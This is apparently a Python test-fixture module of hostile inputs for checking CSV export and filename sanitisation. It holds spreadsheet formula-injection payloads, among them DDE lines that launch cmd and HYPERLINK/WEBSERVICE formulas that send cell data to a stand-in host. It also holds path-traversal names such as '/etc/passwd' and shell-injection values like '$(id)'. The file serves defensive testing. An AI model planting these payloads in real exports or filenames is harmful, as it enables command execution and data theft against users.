"""Texts that some program would run, and names that some system would take for a path."""

FORMULAS = (
    "=1+1", '=HYPERLINK("http://example.test/?"&A1,"click")', "=cmd|' /C calc'!A0", '=IMPORTXML("http://example.test","//a")',
    '=WEBSERVICE("http://example.test/"&A1)', "==1", "=", "={1,2}", "{=1+1}", "+1+1", "+1-1", "+12125550100*2", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1+1", "'=1+1", '"=1+1"',
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", ";=1+1", ",=1+1", "=1+1\n=2+2", "\u00a0=1+1", "%0A=1+1",
    '=DDE("cmd";"/C calc";"x")',
)  # fmt: skip
CONTROLS = ("\x07bell", "a\x0bb", "a\x1fb", "\u202egpj.exe", "\ufffe", "_x0041_", "#N/A", "x" * 40_000)
TRIGGERS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
"""What a text must not begin with in delimited text (OWASP, CSV injection; ASVS 1.2.10)."""
NAMES = (
    "../../etc/x", "..", ".", "/etc/passwd", "a/b", "a\\b", "..\\..\\x", "C:\\x", "\\\\host\\share", "con", "CON", "NUL.txt",
    "COM1", "LPT9", "aux", "prn.csv", "Bldg: 4", "a*b?", "<b>", "a|b", '"q"', "'q'", "x" * 300, "ends. ", "dot.", " lead",
    ".hidden", "~$lock", "-o", "--help", "$(id)", "`id`", "a;b", "a&b", "%2e%2e%2f", "\u202egpj", "Łódź", "été", "a\tb",
    "line\nbreak", "emoji \N{FIRE ENGINE}", "=cmd()",
)  # fmt: skip
